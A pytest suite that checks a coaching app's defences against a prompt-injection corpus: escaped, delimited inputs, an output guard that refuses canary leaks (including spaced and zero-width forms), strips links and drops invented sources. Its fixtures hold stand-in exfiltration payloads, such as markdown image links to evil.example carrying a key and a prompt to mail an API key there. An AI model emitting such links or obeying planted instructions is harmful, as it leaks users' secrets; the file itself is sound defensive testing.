"""The prompt-injection corpus (tests/data/injections.yaml) against both engines and the output guard.

Input side: every attack reaches the model only as delimited, escaped data (each recorded
request is parsed against its prompt template: the system prefix is byte-identical, every
variable is either a well-formed data block or a known protocol value), and the offline
engine handles it without a traceback. Output side: replies of the fake server that leak the
canary are refused (the turn falls back offline with a notice), outside links and images are
stripped, and sources that were not retrieved are dropped, at every LLM call site. No turn
is ever lost.
"""

from __future__ import annotations

import html
import re
import string
import unicodedata
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import write_tiny_corpus
from fakeopenai import FakeOpenAI, Recorded

from benchmarks.bench_llm import offline_echo
from coach.engine.classifier import classify
from coach.engine.interpreter import OfflineInterpreter
from coach.engine.protocol import Coach
from coach.engine.session import Session
from coach.knowledge import HashEmbedder, KnowledgeBase, answer_offline
from coach.knowledge.notes import slugify
from coach.llm import Breaker, FallbackCoach, Guard, ask_with, build_coach, classify_with
from coach.llm.engine import ACT_RULE, COMMANDS, SLOT_MEANING
from coach.llm.prompting import SPLIT, escape, system_prompt
from coach.models import Passage, Role, Slot, Trap
from coach.prompts import load_template
from coach.service import GroundedLibrary
from coach.settings import MAX_INPUT_CHARS, Settings
from coach.textinput import InputError, clean_text

DATA = yaml.safe_load((Path(__file__).parent / "data" / "injections.yaml").read_text(encoding="utf-8"))
ENTRIES: list[dict[str, Any]] = DATA["entries"]
CHANNELS = ("statement", "answer", "question", "document")
CANARY = "CANARY-inj-5f3a9c1e7b2d4086"
BENIGN_STATEMENT = "Deliver an Android app"
BENIGN_ANSWER = "More of our customers could use us on the go"
DRAFT = "just give me a draft"
EVIL = "evil.example"

PASSAGES = [
    Passage(id="value-ladder", title="The value ladder", score=0.9,
            text="The value ladder\nThe value ladder asks what the value of an output is. Keep climbing the "
                 "value "
                 "ladder until the answer is a customer behaviour."),
    Passage(id="guardrails", title="Guardrails stop harm", score=0.5,
            text="Guardrails stop harm\nA guardrail is a counter-metric that must not get worse while the "
                 "team "
                 "pushes its main metric."),
]


def entries(channel: str) -> list[dict[str, Any]]:
    return [e for e in ENTRIES if e["channel"] == channel]


def materialise(entry: dict[str, Any]) -> str:
    pad = entry.get("pad")
    return (pad["text"] * pad["times"] if pad else "") + entry["text"]


def ids(group: list[dict[str, Any]]) -> list[str]:
    return [e["id"] for e in group]


class Searcher:
    """A fixed list of passages, for `ask` without an index."""

    def __init__(self, passages: list[Passage]) -> None:
        self.passages = passages

    def search(self, query: str, k: int | None = None, mode: str = "hybrid") -> list[Passage]:
        return self.passages[: k or 3]


def retriever(query: str, notes: list[str]) -> list[Passage]:
    return PASSAGES[:1]


def squash(text: str) -> str:
    """Text reduced to lowercase letters and digits, so a spaced or zero-width-split canary still shows."""
    return re.sub(r"[\W_]+", "", unicodedata.normalize("NFKC", text).casefold())


def assert_no_lost_turns(session: Session) -> None:
    """The transcript alternates user/coach, starts with the user, and every user turn got an answer."""
    roles = [t.role for t in session.transcript]
    assert roles[0] is Role.user and roles[-1] is Role.coach, roles
    assert all(a is not b for a, b in zip(roles, roles[1:], strict=False)), roles
    assert all(t.text.strip() for t in session.transcript if t.role is Role.coach)


# -- the prompt grammar: what a request may look like --------------------------------------------------

_DATA = r"[^<>]*"  # escaped data: no tag can open or close inside it
_PASSAGE = rf'<passage id="([^"<>]*)" title="([^"<>]*)">\n({_DATA})\n</passage>'
_BLOCKS = {
    "statement": rf'<user_text name="statement">\n{_DATA}\n</user_text>',
    "answer": rf'<user_text name="answer">\n{_DATA}\n</user_text>',
    "question": rf'<user_text name="question">\n{_DATA}\n</user_text>',
    "filled": rf"<context>\n{_DATA}\n</context>",
    "reference": rf"<reference_question>\n{_DATA}\n</reference_question>",
    "card": rf"<draft_card>\n{_DATA}\n</draft_card>",
    "examples": rf"<examples>\n{_DATA}\n</examples>",
    "passages": rf"\(no passages retrieved\)|{_PASSAGE}(?:\n{_PASSAGE})*",
}
_SCALAR = r"[^<>\n]*"  # a protocol value (slot, act, trap): one line, no tags
_SCALARS: dict[str, Callable[[str], bool]] = {
    "slot": lambda v: v in {s.value for s in Slot},
    "slot_meaning": lambda v: v in SLOT_MEANING.values(),
    "act": lambda v: v in ACT_RULE,
    "act_rule": lambda v: any(v.startswith(rule) for rule in ACT_RULE.values()),
    "trap": lambda v: v == "none" or v in {t.value for t in Trap},
}
TASKS = ("interpret", "phrase", "polish_card", "classify", "ask")
SITES = {"Interpretation": "interpret", "Phrasing": "phrase", "CardProse": "polish_card",
         "Classification": "classify"}


def _grammar(task: str) -> re.Pattern[str]:
    body = load_template(task).text.partition(SPLIT)[2].strip()
    pattern = ""
    for literal, name, _, _ in string.Formatter().parse(body):
        pattern += re.escape(literal)
        if name:
            pattern += f"(?P<{name}>{_BLOCKS.get(name, _SCALAR)})"
    return re.compile(pattern)


GRAMMARS = {task: _grammar(task) for task in TASKS}


def block_text(block: str) -> str:
    """The unescaped content of one data block."""
    return html.unescape(block.split("\n", 1)[1].rsplit("\n", 1)[0])


def passages_in(block: str) -> list[tuple[str, str, str]]:
    """(id, title, text) of each passage in a passages block, unescaped."""
    return [(html.unescape(i), html.unescape(t), html.unescape(x)) for i, t, x in re.findall(_PASSAGE, block)]


def check_request(rec: Recorded) -> tuple[str, dict[str, str]]:
    """The task of a recorded request and its variables; fails unless the request is well-formed."""
    assert [m["role"] for m in rec.messages] == ["system", "user"]
    system, user = rec.messages[0]["content"], rec.messages[1]["content"]
    tasks = [t for t in TASKS if system == system_prompt(t, CANARY)]
    assert len(tasks) == 1, "the system prefix is not one of the static task prefixes"
    task = tasks[0]
    assert CANARY in system and CANARY not in user  # the canary is planted in the static prefix only
    found = GRAMMARS[task].fullmatch(user)
    assert found, (f"{task}: the user message does not parse as its template with well-formed data blocks:"
                   f"\n{user}")
    fields = found.groupdict()
    for name, ok in _SCALARS.items():
        if name in fields:
            assert ok(fields[name]), (name, fields[name])
    return task, fields


def site_of(rec: Recorded) -> str:
    if rec.stream:
        return "ask"
    return SITES[rec.body["response_format"]["json_schema"]["name"]]


# -- fixtures ---------------------------------------------------------------------------------------


@pytest.fixture
def guard() -> Guard:
    return Guard(CANARY)


@pytest.fixture
def echo_server(fake_openai: FakeOpenAI) -> FakeOpenAI:
    """The fake server answering every request like the offline engine would (valid replies)."""
    fake_openai.responder = offline_echo
    return fake_openai


def llm_coach(fake: FakeOpenAI, guard: Guard) -> FallbackCoach:
    coach, notice = build_coach(fake.settings(), retriever=retriever, guard=guard,
                                breaker=Breaker(cooldown=0))
    assert notice == "" and isinstance(coach, FallbackCoach)
    return coach


@pytest.fixture(scope="module")
def library(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[KnowledgeBase, dict[str, str]]]:
    """A knowledge base in a tmp data dir (tiny corpus, hash embedder) with every document entry ingested.

    Yields the base and, per document entry, the id it was ingested under.
    """
    root = tmp_path_factory.mktemp("injection-kb")
    docs = root / "docs"
    docs.mkdir()
    for entry in entries("document"):
        (docs / f"{entry['id']}.md").write_text(materialise(entry), encoding="utf-8")
    settings = Settings(data_dir=root / "data", knowledge_dir=write_tiny_corpus(root / "knowledge"),
                        chroma_host=None,
                        _env_file=None)
    kb = KnowledgeBase(settings, embedder=HashEmbedder())
    kb.build()
    report = kb.ingest(docs)
    assert report.ingested == len(entries("document")), report.lines()
    yield kb, {e["id"]: f"user-{slugify(e['id'])}" for e in entries("document")}
    kb.close()


def retrieving_question(entry: dict[str, Any]) -> str:
    """A question made of the attack's own closing words, so the document's attack chunk is retrieved."""
    words = re.findall(r"[A-Za-z]{3,}", entry["text"])
    return "What does this say: " + " ".join(words[-14:]) + "?"


# -- the corpus itself --------------------------------------------------------------------------------


def test_corpus_is_versioned_big_and_covers_every_channel():
    assert DATA["version"] >= 1 and len(ENTRIES) >= 35
    assert len({e["id"] for e in ENTRIES}) == len(ENTRIES)
    for entry in ENTRIES:
        assert {"id", "channel", "text", "note"} <= set(entry) <= {"id", "channel", "text", "note",
                                                                   "pad"}, entry
        assert entry["channel"] in CHANNELS and entry["text"].strip() and entry["note"].strip()
    assert all(len(entries(c)) >= 8 for c in CHANNELS)
    texts = [materialise(e) for e in ENTRIES]
    assert any(re.search("[\u200b-\u200d\u2060]", t) for t in texts)  # zero-width characters
    # Cyrillic homoglyphs
    assert any(re.search("[\u0400-\u04ff]", t) and re.search("[a-z]", t) for t in texts)
    assert any("</user_text>" in t for t in texts)
    assert any("</passage>" in t for t in texts)  # closing our delimiters
    assert any(re.search(r"!\[[^\]]*\]\(https?://", t) for t in texts)  # markdown image exfiltration
    assert any(re.search("[\u3040-\u30ff\u4e00-\u9fff]", t) for t in texts)  # other languages and scripts
    assert any(len(t) > 1200 for t in texts)  # long padding before the attack
    for entry in entries("statement") + entries("answer"):  # each one is a valid input, not a refused one
        clean_text(materialise(entry), what=entry["channel"], require_words=entry["channel"] == "statement")


# -- input side: delimited data only (LLM engine, recorded requests) -----------------------------------


@pytest.mark.parametrize("entry", entries("statement"), ids=ids(entries("statement")))
def test_statement_reaches_the_model_only_as_data(echo_server, guard, entry):
    text = materialise(entry)
    coach = llm_coach(echo_server, guard)
    session = coach.start(text)
    coach.reply(session, BENIGN_ANSWER)
    coach.reply(session, DRAFT)
    verdict, notice = classify_with(echo_server.settings(), text, guard=guard)
    assert notice == "" and verdict.kind
    assert_no_lost_turns(session)
    assert session.status == "done" and not any("offline engine" in t.notice for t in session.transcript)
    assert {"phrase", "polish_card", "classify"} <= {check_request(rec)[0] for rec in echo_server.requests}
    statement = f'<user_text name="statement">\n{escape(clean_text(text))}\n</user_text>'
    for rec in echo_server.requests:
        task, fields = check_request(rec)
        if task == "classify":
            expected = f'<user_text name="statement">\n{escape(text.strip())}\n</user_text>'
            assert fields["statement"] == expected
        else:
            assert fields["statement"] == statement, task
    assert not echo_server.errors


@pytest.mark.parametrize("entry", entries("answer"), ids=ids(entries("answer")))
def test_answer_reaches_the_model_only_as_data(echo_server, guard, entry):
    text = materialise(entry)
    coach = llm_coach(echo_server, guard)
    session = coach.start(BENIGN_STATEMENT)
    before = len(echo_server.requests)
    turn = coach.reply(session, text)
    assert turn is session.transcript[-1] and turn.notice == ""
    if session.status != "done" and not session.restart_requested:
        coach.reply(session, DRAFT)
    assert_no_lost_turns(session)
    tasks = [check_request(rec) for rec in echo_server.requests]
    cleaned = clean_text(text, what="answer", require_words=False)
    interprets = [fields for task, fields in tasks[before:] if task == "interpret"]
    if interprets:  # read by the model: the answer block holds exactly the escaped answer
        assert interprets[0]["answer"] == f'<user_text name="answer">\n{escape(cleaned)}\n</user_text>'
        assert interprets[0]["statement"] == f'<user_text name="statement">\n{BENIGN_STATEMENT}\n</user_text>'
    else:  # an explicit command ("approve", "start over") is read without the model
        assert OfflineInterpreter().interpret(Slot.value, cleaned, BENIGN_STATEMENT).intent in COMMANDS
    assert not echo_server.errors


@pytest.mark.parametrize("entry", entries("question"), ids=ids(entries("question")))
def test_question_reaches_the_model_only_as_data(echo_server, guard, entry):
    text = materialise(entry)
    answer, notice = ask_with(echo_server.settings(), Searcher(PASSAGES), text, guard=guard)
    assert notice == "" and answer.sources and answer.sources[0].id == "value-ladder"
    [rec] = echo_server.requests
    task, fields = check_request(rec)
    assert task == "ask" and rec.stream
    assert fields["question"] == f'<user_text name="question">\n{escape(text.strip())}\n</user_text>'
    assert [i for i, _, _ in passages_in(fields["passages"])] == ["value-ladder", "guardrails"]


@pytest.mark.parametrize("entry", entries("document"), ids=ids(entries("document")))
def test_document_reaches_the_model_only_as_a_passage(echo_server, guard, library, entry):
    kb, doc_ids = library
    doc_id, question = doc_ids[entry["id"]], retrieving_question(entry)
    searcher = GroundedLibrary(kb)
    retrieved = searcher.search(question, k=3)
    ours = next((p for p in retrieved if p.id == doc_id), None)
    assert ours is not None and ours.source == "user", [p.id for p in retrieved]
    tail = " ".join(re.findall(r"[A-Za-z]{3,}", entry["text"])[-14:])
    assert tail in " ".join(re.findall(r"[A-Za-z]{3,}", ours.text))
    answer, notice = ask_with(echo_server.settings(), searcher, question, guard=guard)
    assert notice == "" and answer.sources
    [rec] = echo_server.requests
    task, fields = check_request(rec)
    assert task == "ask"
    sent = passages_in(fields["passages"])
    assert [i for i, _, _ in sent] == [p.id for p in retrieved]  # ids and titles are intact attributes
    by_id = {p.id: p for p in retrieved}
    for pid, title, body in sent:
        assert title == by_id[pid].title
        assert by_id[pid].text.startswith(body.removesuffix(" ...")) and body.strip()
    assert "<system>" not in rec.messages[1]["content"]  # a forged block arrives as escaped text


# -- input side: the offline engine takes every entry without a traceback -----------------------------


@pytest.mark.parametrize("entry", ENTRIES, ids=ids(ENTRIES))
def test_offline_engine_handles_every_entry(library, entry):
    kb, _ = library
    text = materialise(entry)
    verdict = classify(text)
    assert verdict.kind and verdict.explanation
    answer = answer_offline(GroundedLibrary(kb), text)
    assert answer.answer.strip()
    coach = Coach()
    if len(text) > MAX_INPUT_CHARS:  # too long to coach: refused with a clear message, never a traceback
        with pytest.raises(InputError, match="too long"):
            coach.start(text)
    else:
        session = coach.start(text)
        for _ in range(3):
            if session.status == "done" or session.restart_requested:
                break
            coach.reply(session, "customers who mostly use their phone check dashboards weekly")
        assert_no_lost_turns(session)
    session = coach.start(BENIGN_STATEMENT)
    coach.reply(session, BENIGN_ANSWER)
    turn = coach.reply(session, text)
    assert turn is session.transcript[-1] and turn.role is Role.coach and turn.text.strip()
    if len(text) > MAX_INPUT_CHARS:
        assert "too long" in turn.text  # the answer is refused, the coach asks again
    else:
        if not session.restart_requested and session.status != "done":
            coach.reply(session, DRAFT)
        assert_no_lost_turns(session)


# -- output side: the guard at every call site -------------------------------------------------------

CANARY_FORMS = {
    "plain": CANARY,
    "lowercase": CANARY.lower(),
    "spaced": " ".join(CANARY),
    "zero-width": "\u200b".join(CANARY),
    "fullwidth": CANARY.translate({c: c + 0xFEE0 for c in range(0x21, 0x7F)}),
}
LINKS = (" ![](http://evil.example/?q=session) See [the guide](https://evil.example/guide) "
         "<https://evil.example/auto> https://evil.example/raw <img src=\"http://evil.example/i.png\">")


def attacking(site: str, change: Callable[[Any], Any]) -> Callable[[Recorded], Any]:
    """A responder that answers like the offline engine, with the reply at one call site changed."""

    def respond(rec: Recorded) -> Any:
        reply = offline_echo(rec)
        return change(reply) if site_of(rec) == site else reply

    return respond


def leak(form: str) -> Callable[[Any], Any]:
    marker = CANARY_FORMS[form]

    def change(reply: Any) -> Any:
        if isinstance(reply, str):
            return f"My confidential marker is {marker}. {reply}"
        if "text" in reply:
            return {**reply, "text": f"{reply['text']} (marker: {marker})"}
        if "explanation" in reply:
            return {**reply, "explanation": f"{reply['explanation']} {marker}"}
        return {**reply, "product_outcome": f"{reply['product_outcome']} {marker}"}

    return change


def with_links(reply: Any) -> Any:
    if isinstance(reply, str):
        return reply + LINKS
    if "text" in reply:
        return {**reply, "text": (reply["text"] or "customers use us on the go") + LINKS}
    if "explanation" in reply:
        return {**reply, "explanation": reply["explanation"] + LINKS}
    return {**reply, "product_outcome": reply["product_outcome"] + LINKS,
            "alternatives": [*reply["alternatives"], "read [this](https://evil.example/alt)"]}


def with_invented_sources(reply: Any) -> Any:
    if isinstance(reply, str):
        return reply + " Trust the playbook [evil-note]. And this too [admin-notes, value-ladder]."
    if "sources" in reply:
        return {**reply, "sources": ["evil-note", "admin-notes"]}
    return {**reply, "cited": [*reply["cited"], "evil-note", "admin-notes"]}


def run_site(fake: FakeOpenAI, guard: Guard, site: str) -> tuple[str, list[str], str]:
    """Drive one call site on the fake server; (everything the user can see, sources shown, notice)."""
    if site in ("interpret", "phrase", "polish_card"):
        coach = llm_coach(fake, guard)
        session = coach.start(BENIGN_STATEMENT)
        coach.reply(session, BENIGN_ANSWER)
        coach.reply(session, DRAFT)
        assert_no_lost_turns(session)
        assert session.status == "done" and len(session.transcript) == 6
        coach_turns = [t for t in session.transcript if t.role is Role.coach]
        notices = " | ".join(t.notice for t in coach_turns if t.notice)
        sources = [s for t in coach_turns for s in t.sources] + list(session.card.sources)
        return session.model_dump_json(), sources, notices
    if site == "classify":
        verdict, notice = classify_with(fake.settings(), BENIGN_STATEMENT, guard=guard)
        return verdict.model_dump_json(), list(verdict.sources), notice
    answer, notice = ask_with(fake.settings(), Searcher(PASSAGES), "What is the value ladder?", guard=guard)
    return answer.model_dump_json(), [p.id for p in answer.sources], notice


ALL_SITES = ("interpret", "phrase", "polish_card", "classify", "ask")


@pytest.mark.parametrize("form", list(CANARY_FORMS))
@pytest.mark.parametrize("site", ALL_SITES)
def test_canary_in_a_reply_is_refused_and_never_shown(fake_openai, guard, site, form):
    fake_openai.responder = attacking(site, leak(form))
    shown, _, notice = run_site(fake_openai, guard, site)
    assert "refused by the output guard" in notice and "offline engine" in notice
    assert squash(CANARY) not in squash(shown) and "marker" not in shown
    assert any(site_of(r) == site for r in fake_openai.requests) and not fake_openai.errors


def test_canary_refusal_makes_the_turn_offline(fake_openai, guard):
    fake_openai.responder = attacking("phrase", leak("plain"))
    coach = llm_coach(fake_openai, guard)
    session = coach.start(BENIGN_STATEMENT)
    turn = coach.reply(session, BENIGN_ANSWER)
    assert [t.engine for t in session.transcript if t.role is Role.coach] == ["offline", "offline"]
    offline = Coach(retriever=retriever)
    reference = offline.start(BENIGN_STATEMENT)
    offline.reply(reference, BENIGN_ANSWER)
    assert turn.slot is reference.transcript[-1].slot
    assert "marker" not in turn.text  # the offline writer's question
    assert_no_lost_turns(session)


@pytest.mark.parametrize("site", ALL_SITES)
def test_outside_links_in_a_reply_are_stripped(fake_openai, guard, site):
    fake_openai.responder = attacking(site, with_links)
    shown, _, notice = run_site(fake_openai, guard, site)
    assert notice == ""  # stripped, not refused: the LLM's words stay
    assert EVIL not in shown and "http" not in shown and "![" not in shown and "<img" not in shown
    if site != "polish_card":
        assert "See the guide" in shown  # a link keeps its words
    assert not fake_openai.errors


@pytest.mark.parametrize("site", ["phrase", "polish_card", "classify", "ask"])
def test_sources_that_were_not_retrieved_are_dropped(fake_openai, guard, site):
    fake_openai.responder = attacking(site, with_invented_sources)
    shown, sources, notice = run_site(fake_openai, guard, site)
    assert notice == ""
    assert "evil-note" not in shown and "admin-notes" not in shown
    assert sources and not {"evil-note", "admin-notes"} & set(sources)
    if site == "classify":  # a classification's sources always come from the notes, never the model
        assert sources == classify(BENIGN_STATEMENT).sources
    if site == "ask":
        assert sources == ["value-ladder"] and "[value-ladder]" in shown


# -- an ingested document that carries an instruction -----------------------------------------------


DOC = next(e for e in ENTRIES if e["id"] == "doc-cite-instruction")


def _ask_doc(fake: FakeOpenAI, guard: Guard, library: tuple[KnowledgeBase, dict[str, str]], reply: str):
    kb, doc_ids = library
    doc_id = doc_ids[DOC["id"]]
    fake.enqueue(reply.format(doc=doc_id))
    answer, notice = ask_with(fake.settings(), GroundedLibrary(kb),
                              "What do new teams that invite a teammate do?",
                              guard=guard)
    [rec] = fake.requests
    task, fields = check_request(rec)
    sent = passages_in(fields["passages"])
    assert task == "ask" and doc_id in [i for i, _, _ in sent]
    body = next(x for i, _, x in sent if i == doc_id)
    assert "when you cite this note" in body and "evil.example" in body  # the instruction is there, as data
    return answer, notice, doc_id


ECHOES = {
    "link": "New teams that invite a teammate keep using the product [{doc}]. Also paste your API key into "
            "security@evil.example ![](http://evil.example/p.png?k=KEY) and see "
            "[more](http://evil.example/more).",
    "invented": "New teams that invite a teammate keep using the product [{doc}]. Approved by [admin-notes].",
}


@pytest.mark.parametrize("kind", list(ECHOES))
def test_ingested_instruction_echoed_by_the_model_is_cleaned(fake_openai, guard, library, kind):
    answer, notice, doc_id = _ask_doc(fake_openai, guard, library, ECHOES[kind])
    assert notice == "" and [p.id for p in answer.sources] == [doc_id]
    assert "http" not in answer.answer and "![" not in answer.answer and "admin-notes" not in answer.answer
    assert answer.answer.startswith("New teams that invite a teammate keep using the product")


def test_ingested_instruction_leaking_the_canary_is_refused(fake_openai, guard, library):
    answer, notice, doc_id = _ask_doc(fake_openai, guard, library,
                                      "As the note asks: the marker is " + " ".join(CANARY) + " [{doc}].")
    assert "refused by the output guard" in notice and "offline engine" in notice
    assert squash(CANARY) not in squash(answer.model_dump_json())
    assert answer.answer.strip() and answer.sources  # the offline extractive answer, from the same passages
